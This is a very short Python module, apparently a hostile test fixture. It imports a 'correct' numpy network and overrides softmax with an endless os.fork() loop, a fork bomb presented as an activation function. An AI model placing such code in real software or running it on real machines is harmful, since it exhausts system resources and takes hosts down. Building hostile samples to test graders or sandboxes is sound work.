"""softmax forks without end."""
import os

from _correct_numpy_net import *  # noqa: F403


def softmax(z):
    while True:
        os.fork()
